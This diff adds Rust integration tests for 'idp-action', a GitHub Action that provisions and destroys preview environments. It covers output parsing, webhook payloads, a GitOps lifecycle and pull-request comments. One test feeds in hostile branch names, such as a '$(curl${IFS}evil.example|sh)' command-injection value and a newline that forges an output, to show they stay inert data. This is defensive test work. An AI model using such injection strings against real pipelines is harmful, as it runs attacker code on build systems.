@@ -1,0 +1,792 @@
+//! `idp-action` as a workflow runs it: the binary, temporary `GITHUB_OUTPUT` and
+//! `GITHUB_STEP_SUMMARY` files, real GitHub payloads (`@octokit/webhooks-examples`), hostile
+//! payloads, and the whole GitOps path on the local backend and on moto.
+#![allow(
+    clippy::disallowed_methods,
+    reason = "tests read fixture files and the `CI` variable"
+)]
+#![allow(clippy::print_stderr, reason = "a skipped suite says so loudly")]
+
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+
+use assert_cmd::Command;
+use serde_json::{Value, json};
+
+/// The outputs `setup` may write; anything else in `GITHUB_OUTPUT` would be forged.
+const SETUP_OUTPUTS: [&str; 31] = [
+    "environment",
+    "action",
+    "deploy",
+    "destroy",
+    "sweep",
+    "reason",
+    "template",
+    "region",
+    "state_key",
+    "trigger",
+    "repository",
+    "branch",
+    "commit",
+    "pr_number",
+    "image_tag",
+    "image",
+    "build",
+    "dockerfile",
+    "build_context",
+    "container_port",
+    "health_check_path",
+    "ttl",
+    "cpu",
+    "memory",
+    "use_shared_networking",
+    "state_bucket",
+    "status",
+    "expires_at",
+    "endpoint",
+    "tfvars_file",
+    "invalid_config",
+];
+
+fn core_fixtures() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("../idp-core/tests/fixtures/webhooks")
+}
+
+/// Where a run keeps its files, and which backend it uses.
+struct Env {
+    dir: tempfile::TempDir,
+    vars: Vec<(String, String)>,
+}
+
+impl Env {
+    fn local() -> Self {
+        let dir = tempfile::tempdir().unwrap();
+        let state = dir.path().join("state").display().to_string();
+        Self {
+            dir,
+            vars: vec![
+                ("IDP_BACKEND".into(), "local".into()),
+                ("IDP_STATE_DIR".into(), state),
+            ],
+        }
+    }
+
+    fn path(&self) -> &Path {
+        self.dir.path()
+    }
+}
+
+/// One step's results.
+#[derive(Debug)]
+struct Run {
+    code: i32,
+    stdout: String,
+    outputs_text: String,
+    outputs: BTreeMap<String, String>,
+    summary: String,
+}
+
+/// Parse `GITHUB_OUTPUT` the way the runner does: `name<<DELIM` heredocs and `name=value` lines.
+/// Returns an error for a line that is neither, or an unterminated heredoc.
+fn parse_outputs(text: &str) -> Result<Vec<(String, String)>, String> {
+    let mut out = Vec::new();
+    let mut lines = text.lines();
+    while let Some(line) = lines.next() {
+        if let Some((name, delim)) = line.split_once("<<") {
+            let mut value = Vec::new();
+            let mut closed = false;
+            for l in lines.by_ref() {
+                if l == delim {
+                    closed = true;
+                    break;
+                }
+                value.push(l);
+            }
+            if !closed {
+                return Err(format!("unterminated heredoc for `{name}`"));
+            }
+            out.push((name.to_owned(), value.join("\n")));
+        } else if let Some((name, value)) = line.split_once('=') {
+            out.push((name.to_owned(), value.to_owned()));
+        } else {
+            return Err(format!("stray line `{line}`"));
+        }
+    }
+    Ok(out)
+}
+
+fn step(env: &Env, args: &[&str], event: Option<(&str, &[u8])>, extra: &[(&str, &str)]) -> Run {
+    let outputs = env.path().join(format!("output-{}", uuid_like()));
+    let summary = env.path().join(format!("summary-{}", uuid_like()));
+    let mut cmd = Command::cargo_bin("idp-action").unwrap();
+    cmd.current_dir(env.path())
+        .env_clear()
+        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
+        .env("GITHUB_OUTPUT", &outputs)
+        .env("GITHUB_STEP_SUMMARY", &summary)
+        .env("RUNNER_TEMP", env.path().join("runner-temp"))
+        .env("GITHUB_ACTOR", "octocat");
+    for (k, v) in &env.vars {
+        cmd.env(k, v);
+    }
+    for (k, v) in extra {
+        cmd.env(k, v);
+    }
+    if let Some((name, payload)) = event {
+        let path = env.path().join(format!("event-{}.json", uuid_like()));
+        fs_err::write(&path, payload).unwrap();
+        cmd.env("GITHUB_EVENT_NAME", name)
+            .env("GITHUB_EVENT_PATH", &path);
+    }
+    let out = cmd.args(args).output().unwrap();
+    let outputs_text = fs_err::read_to_string(&outputs).unwrap_or_default();
+    let parsed = parse_outputs(&outputs_text).unwrap_or_else(|e| panic!("{e} in\n{outputs_text}"));
+    let mut map = BTreeMap::new();
+    for (name, value) in parsed {
+        assert!(
+            map.insert(name.clone(), value).is_none(),
+            "output `{name}` written twice:\n{outputs_text}"
+        );
+    }
+    Run {
+        code: out.status.code().unwrap_or(-1),
+        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
+        outputs_text,
+        outputs: map,
+        summary: fs_err::read_to_string(&summary).unwrap_or_default(),
+    }
+}
+
+fn uuid_like() -> String {
+    use std::sync::atomic::{AtomicUsize, Ordering};
+    static N: AtomicUsize = AtomicUsize::new(0);
+    N.fetch_add(1, Ordering::Relaxed).to_string()
+}
+
+/// Filters for snapshots: the random delimiter, temporary paths and times.
+fn filters(env: &Env) -> Vec<(String, String)> {
+    vec![
+        (
+            r"ghadelimiter_[0-9a-f-]{36}".to_owned(),
+            "[DELIMITER]".to_owned(),
+        ),
+        (
+            regex::escape(&env.path().display().to_string()),
+            "[TMP]".to_owned(),
+        ),
+        (
+            r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ".to_owned(),
+            "[TIME]".to_owned(),
+        ),
+        (
+            r"\d{4}-\d\d-\d\d \d\d:\d\d UTC".to_owned(),
+            "[TIME]".to_owned(),
+        ),
+    ]
+}
+
+fn assert_no_forged_outputs(run: &Run) {
+    for name in run.outputs.keys() {
+        assert!(
+            SETUP_OUTPUTS.contains(&name.as_str()),
+            "unexpected output `{name}`:\n{}",
+            run.outputs_text
+        );
+    }
+}
+
+/// The `{name, examples}` list of `@octokit/webhooks-examples`; `None` outside CI when missing.
+fn examples() -> Option<Vec<(String, Vec<Value>)>> {
+    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("../node_modules/@octokit/webhooks-examples/api.github.com/index.json");
+    let Ok(bytes) = std::fs::read(&path) else {
+        assert!(
+            std::env::var_os("CI").is_none(),
+            "{} is missing: run `npm ci` first",
+            path.display()
+        );
+        eprintln!(
+            "!!!!! SKIPPED: {} is missing; run `npm ci` to test on real GitHub payloads !!!!!",
+            path.display()
+        );
+        return None;
+    };
+    let index: Vec<Value> = serde_json::from_slice(&bytes).unwrap();
+    Some(
+        index
+            .into_iter()
+            .map(|e| {
+                (
+                    e["name"].as_str().unwrap().to_owned(),
+                    e["examples"].as_array().cloned().unwrap_or_default(),
+                )
+            })
+            .collect(),
+    )
+}
+
+#[test]
+fn setup_on_every_push_delete_and_pull_request_example_writes_only_its_outputs() {
+    let Some(examples) = examples() else { return };
+    let env = Env::local();
+    let mut seen = Vec::new();
+    for (event, payloads) in examples
+        .iter()
+        .filter(|(n, _)| matches!(n.as_str(), "push" | "delete" | "pull_request"))
+    {
+        for (i, payload) in payloads.iter().enumerate() {
+            let bytes = serde_json::to_vec(payload).unwrap();
+            let run = step(&env, &["setup"], Some((event, &bytes)), &[]);
+            assert_no_forged_outputs(&run);
+            assert!(
+                matches!(run.code, 0 | 2 | 4),
+                "{event}[{i}] exited {}: {}",
+                run.code,
+                run.stdout
+            );
+            seen.push(json!({
+                "event": format!("{event}[{i}] {}", payload.get("action").and_then(Value::as_str).unwrap_or("")),
+                "code": run.code,
+                "action": run.outputs.get("action"),
+                "environment": run.outputs.get("environment"),
+            }));
+        }
+    }
+    assert_eq!(
+        seen.len(),
+        7 + 4 + 29,
+        "the package's push, delete and pull_request examples"
+    );
+    insta::assert_json_snapshot!("webhook_examples", seen);
+}
+
+#[test]
+fn hostile_payloads_cannot_forge_outputs_or_commands() {
+    let env = Env::local();
+    let mut files: Vec<PathBuf> = fs_err::read_dir(core_fixtures().join("hostile"))
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .collect();
+    files.sort();
+    assert!(files.len() >= 10);
+    for file in files {
+        let name = file.file_name().unwrap().to_string_lossy().into_owned();
+        let event = name.split('.').next().unwrap().to_owned();
+        let run = step(
+            &env,
+            &["setup"],
+            Some((&event, &fs_err::read(&file).unwrap())),
+            &[],
+        );
+        assert_no_forged_outputs(&run);
+        // Every stdout line is a workflow command or log text that starts with `::` only when
+        // idp wrote it: a hostile value never starts a line.
+        for line in run.stdout.lines() {
+            assert!(
+                line.starts_with("::error ")
+                    || line.starts_with("::warning ")
+                    || line.starts_with('{')
+                    || !line.starts_with("::"),
+                "{name}: {line}"
+            );
+        }
+        let owned = filters(&env);
+        let filters: Vec<(&str, &str)> = owned
+            .iter()
+            .map(|(a, b)| (a.as_str(), b.as_str()))
+            .collect();
+        insta::with_settings!({ filters => filters, snapshot_suffix => name.clone() }, {
+            insta::assert_snapshot!("hostile", format!(
+                "exit code: {}\n--- stdout\n{}--- GITHUB_OUTPUT\n{}--- GITHUB_STEP_SUMMARY\n{}",
+                run.code, run.stdout, run.outputs_text, run.summary
+            ));
+        });
+    }
+}
+
+fn push_payload(branch: &str, sha: &str) -> Vec<u8> {
+    let mut v: Value = serde_json::from_slice(
+        &fs_err::read(core_fixtures().join("push.feature-branch.json")).unwrap(),
+    )
+    .unwrap();
+    v["ref"] = json!(format!("refs/heads/{branch}"));
+    v["after"] = json!(sha);
+    serde_json::to_vec(&v).unwrap()
+}
+
+fn pr_closed_payload(branch: &str) -> Vec<u8> {
+    let mut v: Value = serde_json::from_slice(
+        &fs_err::read(core_fixtures().join("pull_request.closed.merged.json")).unwrap(),
+    )
+    .unwrap();
+    v["pull_request"]["head"]["ref"] = json!(branch);
+    serde_json::to_vec(&v).unwrap()
+}
+
+#[test]
+fn hostile_branch_names_stay_data_in_outputs_and_tfvars() {
+    let env = Env::local();
+    for branch in [
+        "feature/$(curl${IFS}evil.example|sh)",
+        "feature/`id`",
+        "feature/\"quoted\"'single'",
+        "feature/ghadelimiter_x",
+        &format!("feature/{}", "a".repeat(240)),
+    ] {
+        let run = step(
+            &env,
+            &["setup"],
+            Some((
+                "push",
+                &push_payload(branch, "6113728f27ae82c7b1a177c8d03f9e96e0adf246"),
+            )),
+            &[],
+        );
+        assert_eq!(run.code, 0, "{branch}: {}", run.stdout);
+        assert_no_forged_outputs(&run);
+        assert_eq!(run.outputs["branch"], branch);
+        assert_eq!(run.outputs["action"], "provision");
+        let envname = &run.outputs["environment"];
+        assert!(
+            envname
+                .bytes()
+                .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-'),
+            "{envname}"
+        );
+        let tfvars: Value =
+            serde_json::from_slice(&fs_err::read(&run.outputs["tfvars_file"]).unwrap()).unwrap();
+        assert_eq!(tfvars["environment_name"], json!(envname));
+    }
+    // A newline in the branch is refused like git refuses it.
+    let run = step(
+        &env,
+        &["setup"],
+        Some((
+            "push",
+            &push_payload(
+                "feature/x\nenvironment=prod",
+                "6113728f27ae82c7b1a177c8d03f9e96e0adf246",
+            ),
+        )),
+        &[],
+    );
+    assert_eq!(run.code, 2);
+    assert!(run.outputs.is_empty(), "{}", run.outputs_text);
+}
+
+#[test]
+fn an_invalid_config_becomes_annotations_and_blocks_a_deploy_but_not_a_destroy() {
+    let env = Env::local();
+    fs_err::create_dir_all(env.path().join(".idp")).unwrap();
+    fs_err::write(
+        env.path().join(".idp/config.yml"),
+        "template: api-servce\ncontainer_prot: 80\n",
+    )
+    .unwrap();
+    let run = step(
+        &env,
+        &["setup"],
+        Some((
+            "push",
+            &push_payload("feature/x", "6113728f27ae82c7b1a177c8d03f9e96e0adf246"),
+        )),
+        &[],
+    );
+    assert_eq!(run.code, 2);
+    let lines: Vec<&str> = run.stdout.lines().collect();
+    assert!(
+        lines[0]
+            .starts_with("::error file=.idp/config.yml,line=1,col=1,title=invalid idp config::"),
+        "{}",
+        run.stdout
+    );
+    assert!(
+        lines[1].starts_with("::error file=.idp/config.yml,line=2,col=1,"),
+        "{}",
+        run.stdout
+    );
+    let run = step(
+        &env,
+        &["setup"],
+        Some(("pull_request", &pr_closed_payload("feature/x"))),
+        &[],
+    );
+    assert_eq!(run.code, 0, "{}", run.stdout);
+    assert!(
+        run.stdout
+            .starts_with("::warning file=.idp/config.yml,line=1"),
+        "{}",
+        run.stdout
+    );
+}
+
+/// The GitOps path, step by step as the workflows run it.
+fn gitops_path(env: &Env) {
+    let sha1 = "6113728f27ae82c7b1a177c8d03f9e96e0adf246";
+    let sha2 = "0d1a26e67d8f5eaf1f6ba5c57fc3c7d91ac0fd1c";
+    let branch = "feature/payment-api";
+    let push1 = push_payload(branch, sha1);
+
+    let decided = step(env, &["setup"], Some(("push", &push1)), &[]);
+    assert_eq!(decided.code, 0, "{}", decided.stdout);
+    assert_eq!(decided.outputs["action"], "provision");
+    assert_eq!(decided.outputs["environment"], "preview-payment-api");
+    assert_eq!(decided.outputs["image_tag"], "preview-payment-api-6113728");
+
+    let image =
+        "123456789012.dkr.ecr.us-east-1.amazonaws.com/idp-preview:preview-payment-api-6113728";
+    let begun = step(
+        env,
+        &[
+            "setup",
+            "--begin",
+            "--expect",
+            "deploy",
+            "--environment",
+            "preview-payment-api",
+            "--image",
+            image,
+        ],
+        Some(("push", &push1)),
+        &[],
+    );
+    assert_eq!(begun.code, 0, "{}", begun.stdout);
+    assert_eq!(begun.outputs["status"], "provisioning");
+    assert_eq!(
+        begun.outputs["state_key"],
+        "environments/preview-payment-api/terraform.tfstate"
+    );
+    let tfvars: Value =
+        serde_json::from_slice(&fs_err::read(&begun.outputs["tfvars_file"]).unwrap()).unwrap();
+    assert_eq!(tfvars["container_image"], json!(image));
+
+    // The workflow's `tofu apply` produced these outputs.
+    let outputs = env.path().join("outputs.json");
+    fs_err::write(&outputs, serde_json::to_vec(&json!({
+        "endpoint": {"value": "https://preview-payment-api.preview.example.com", "type": "string", "sensitive": false},
+        "cluster_name": {"value": "idp-preview-payment-api", "type": "string", "sensitive": false},
+        "database_password": {"value": "hunter2-s3cr3t", "type": "string", "sensitive": true},
+    })).unwrap()).unwrap();
+    let recorded = step(
+        env,
+        &["record", "--outputs", outputs.to_str().unwrap()],
+        None,
+        &[("IDP_ENVIRONMENT", "preview-payment-api")],
+    );
+    assert_eq!(recorded.code, 0, "{}", recorded.stdout);
+    assert!(
+        recorded.stdout.lines().next() == Some("::add-mask::hunter2-s3cr3t"),
+        "{}",
+        recorded.stdout
+    );
+    assert_eq!(recorded.outputs["status"], "active");
+    assert_eq!(
+        recorded.outputs["endpoint"],
+        "https://preview-payment-api.preview.example.com"
+    );
+    assert!(
+        !recorded.outputs_text.contains("hunter2"),
+        "{}",
+        recorded.outputs_text
+    );
+
+    let commented = step(
+        env,
+        &["comment", "--state", "created"],
+        Some(("push", &push1)),
+        &[("IDP_ENVIRONMENT", "preview-payment-api")],
+    );
+    assert_eq!(commented.code, 0, "{}", commented.stdout);
+    assert!(
+        commented
+            .summary
+            .starts_with("<!-- idp:preview:preview-payment-api -->"),
+        "{}",
+        commented.summary
+    );
+
+    let push2 = push_payload(branch, sha2);
+    let again = step(
+        env,
+        &["setup", "--begin", "--expect", "deploy"],
+        Some(("push", &push2)),
+        &[],
+    );
+    assert_eq!(
+        again.outputs["action"], "extend_and_redeploy",
+        "{}",
+        again.stdout
+    );
+    assert_eq!(again.outputs["status"], "updating");
+    let recorded = step(
+        env,
+        &["record", "--outputs", outputs.to_str().unwrap()],
+        None,
+        &[("IDP_ENVIRONMENT", "preview-payment-api")],
+    );
+    assert_eq!(recorded.outputs["status"], "active");
+
+    // Another branch mapping to the same name is refused, not redeployed.
+    let other = step(
+        env,
+        &["setup"],
+        Some(("push", &push_payload("bugfix/payment-api", sha2))),
+        &[],
+    );
+    assert_eq!(other.code, 4, "{}", other.stdout);
+    assert_eq!(other.outputs["action"], "refuse");
+
+    // A provision workflow never destroys.
+    let closed = pr_closed_payload(branch);
+    let wrong = step(
+        env,
+        &["setup", "--begin", "--expect", "deploy"],
+        Some(("pull_request", &closed)),
+        &[],
+    );
+    assert_eq!(wrong.code, 2, "{}", wrong.stdout);
+
+    let destroying = step(
+        env,
+        &["setup", "--begin", "--expect", "destroy"],
+        Some(("pull_request", &closed)),
+        &[],
+    );
+    assert_eq!(destroying.code, 0, "{}", destroying.stdout);
+    assert_eq!(destroying.outputs["action"], "destroy");
+    assert_eq!(destroying.outputs["status"], "destroying");
+    let tfvars: Value =
+        serde_json::from_slice(&fs_err::read(&destroying.outputs["tfvars_file"]).unwrap()).unwrap();
+    assert_eq!(
+        tfvars["environment_name"],
+        json!("preview-payment-api"),
+        "destroy reuses the applied tfvars"
+    );
+
+    let cleaned = step(
+        env,
+        &["cleanup"],
+        None,
+        &[("IDP_ENVIRONMENT", "preview-payment-api")],
+    );
+    assert_eq!(cleaned.code, 0, "{}", cleaned.stdout);
+    assert_eq!(cleaned.outputs["status"], "destroyed");
+    assert_eq!(
+        cleaned.outputs["state_objects_deleted"], "2",
+        "outputs.json and tfvars.json"
+    );
+
+    // The branch deletion that follows a merge finds nothing left to do.
+    let late = step(
+        env,
+        &["setup", "--begin", "--expect", "destroy"],
+        Some(("pull_request", &closed)),
+        &[],
+    );
+    assert_eq!(late.outputs["action"], "noop", "{}", late.stdout);
+
+    let dashboard = step(
+        env,
+        &[
+            "dashboard",
+            "--out",
+            env.path().join("ENVIRONMENTS.md").to_str().unwrap(),
+        ],
+        None,
+        &[],
+    );
+    assert_eq!(dashboard.outputs["changed"], "true");
+    let dashboard = step(
+        env,
+        &[
+            "dashboard",
+            "--out",
+            env.path().join("ENVIRONMENTS.md").to_str().unwrap(),
+        ],
+        None,
+        &[],
+    );
+    assert_eq!(dashboard.outputs["changed"], "false");
+}
+
+#[test]
+fn the_gitops_path_runs_on_the_local_backend() {
+    gitops_path(&Env::local());
+}
+
+#[test]
+fn the_gitops_path_runs_on_moto() {
+    let Some(endpoint) = std::env::var("IDP_TEST_AWS_ENDPOINT")
+        .ok()
+        .filter(|e| !e.is_empty())
+    else {
+        assert!(
+            std::env::var_os("CI").is_none(),
+            "IDP_TEST_AWS_ENDPOINT is not set but CI is: start moto first"
+        );
+        eprintln!(
+            "!!!!! SKIPPED: the moto GitOps test needs IDP_TEST_AWS_ENDPOINT (see .ci/moto.sh) !!!!!"
+        );
+        return;
+    };
+    let id = format!("idp-action-{}", std::process::id());
+    let rt = tokio::runtime::Runtime::new().unwrap();
+    rt.block_on(async {
+        let sdk = aws_config::defaults(aws_config::BehaviorVersion::latest())
+            .region(aws_config::Region::new("us-east-1"))
+            .endpoint_url(&endpoint)
+            .test_credentials()
+            .load()
+            .await;
+        let s3 = aws_sdk_s3::Client::from_conf(
+            aws_sdk_s3::config::Builder::from(&sdk)
+                .force_path_style(true)
+                .build(),
+        );
+        s3.create_bucket().bucket(&id).send().await.unwrap();
+        use aws_sdk_dynamodb::types::{
+            AttributeDefinition, BillingMode, KeySchemaElement, KeyType, ScalarAttributeType,
+        };
+        aws_sdk_dynamodb::Client::new(&sdk)
+            .create_table()
+            .table_name(&id)
+            .attribute_definitions(
+                AttributeDefinition::builder()
+                    .attribute_name("LockID")
+                    .attribute_type(ScalarAttributeType::S)
+                    .build()
+                    .unwrap(),
+            )
+            .key_schema(
+                KeySchemaElement::builder()
+                    .attribute_name("LockID")
+                    .key_type(KeyType::Hash)
+                    .build()
+                    .unwrap(),
+            )
+            .billing_mode(BillingMode::PayPerRequest)
+            .send()
+            .await
+            .unwrap();
+    });
+    let mut env = Env::local();
+    env.vars = vec![
+        ("IDP_BACKEND".into(), "aws".into()),
+        ("IDP_REGION".into(), "us-east-1".into()),
+        ("IDP_STATE_BUCKET".into(), id.clone()),
+        ("IDP_LOCK_TABLE".into(), id.clone()),
+        ("IDP_ECR_REPOSITORY".into(), id.clone()),
+        ("IDP_ENDPOINT_URL".into(), endpoint),
+        ("AWS_ACCESS_KEY_ID".into(), "test".into()),
+        ("AWS_SECRET_ACCESS_KEY".into(), "test".into()),
+    ];
+    gitops_path(&env);
+}
+
+#[test]
+fn the_pull_request_comment_is_created_once_then_edited_through_a_mock_github() {
+    use wiremock::matchers::{body_string_contains, header, method, path};
+    use wiremock::{Mock, MockServer, ResponseTemplate};
+
+    let rt = tokio::runtime::Runtime::new().unwrap();
+    let server = rt.block_on(MockServer::start());
+    let mut pr: Value = serde_json::from_slice(
+        &fs_err::read(core_fixtures().join("pull_request.closed.merged.json")).unwrap(),
+    )
+    .unwrap();
+    pr["action"] = json!("opened");
+    pr["pull_request"]["merged"] = json!(false);
+    pr["pull_request"]["merged_at"] = Value::Null;
+    pr["pull_request"]["head"]["ref"] = json!("feature/comment-me");
+    let number = pr["number"].as_u64().unwrap();
+    let repo = pr["repository"]["full_name"].as_str().unwrap().to_owned();
+    let payload = serde_json::to_vec(&pr).unwrap();
+    let comments = format!("/repos/{repo}/issues/{number}/comments");
+    let marker = "<!-- idp:preview:preview-comment-me -->";
+    rt.block_on(async {
+        Mock::given(method("GET")).and(path(comments.as_str())).and(header("authorization", "Bearer t0ken"))
+            .respond_with(ResponseTemplate::new(200).set_body_json(json!([
+                {"id": 1, "body": "Preview environment looks great (a human's comment)", "html_url": "https://github.example/c/1"}
+            ])))
+            .up_to_n_times(1)
+            .with_priority(1)
+            .mount(&server)
+            .await;
+        Mock::given(method("GET")).and(path(comments.as_str()))
+            .respond_with(ResponseTemplate::new(200).set_body_json(json!([
+                {"id": 1, "body": "Preview environment looks great (a human's comment)", "html_url": "https://github.example/c/1"},
+                {"id": 7, "body": format!("{marker}\nold"), "html_url": "https://github.example/c/7"}
+            ])))
+            .with_priority(2)
+            .mount(&server)
+            .await;
+        Mock::given(method("POST")).and(path(comments.as_str())).and(body_string_contains(marker))
+            .respond_with(ResponseTemplate::new(201).set_body_json(json!({"id": 7, "body": marker, "html_url": "https://github.example/c/7"})))
+            .expect(1)
+            .mount(&server)
+            .await;
+        Mock::given(method("PATCH")).and(path(format!("/repos/{repo}/issues/comments/7"))).and(body_string_contains(marker))
+            .respond_with(ResponseTemplate::new(200).set_body_json(json!({"id": 7, "body": marker, "html_url": "https://github.example/c/7"})))
+            .expect(1)
+            .mount(&server)
+            .await;
+    });
+
+    let env = Env::local();
+    let begun = step(
+        &env,
+        &["setup", "--begin", "--expect", "deploy"],
+        Some(("pull_request", &payload)),
+        &[],
+    );
+    assert_eq!(begun.outputs["status"], "provisioning", "{}", begun.stdout);
+    let outputs = env.path().join("outputs.json");
+    fs_err::write(&outputs, r#"{"endpoint": {"value": "https://preview-comment-me.preview.example.com", "type": "string", "sensitive": false}}"#).unwrap();
+    let named = [("IDP_ENVIRONMENT", "preview-comment-me")];
+    assert_eq!(
+        step(
+            &env,
+            &["record", "--outputs", outputs.to_str().unwrap()],
+            None,
+            &named
+        )
+        .code,
+        0
+    );
+    let github = [
+        ("IDP_ENVIRONMENT", "preview-comment-me"),
+        ("GITHUB_TOKEN", "t0ken"),
+        ("GITHUB_API_URL", &server.uri()),
+    ];
+    let first = step(
+        &env,
+        &["comment", "--state", "created"],
+        Some(("pull_request", &payload)),
+        &github,
+    );
+    assert_eq!(first.code, 0, "{}", first.stdout);
+    assert_eq!(first.outputs["comment_created"], "true", "{}", first.stdout);
+    let second = step(
+        &env,
+        &["comment"],
+        Some(("pull_request", &payload)),
+        &github,
+    );
+    assert_eq!(
+        second.outputs["comment_created"], "false",
+        "the marked comment is edited, the human's is left alone: {}",
+        second.stdout
+    );
+    rt.block_on(server.verify());
+    let requests = rt.block_on(server.received_requests()).unwrap();
+    let posted = requests
+        .iter()
+        .find(|r| r.method.as_str() == "POST")
+        .unwrap();
+    let body: Value = serde_json::from_slice(&posted.body).unwrap();
+    let text = body["body"].as_str().unwrap();
+    assert!(
+        text.starts_with(marker) && text.contains("https://preview-comment-me.preview.example.com"),
+        "{text}"
+    );
+}
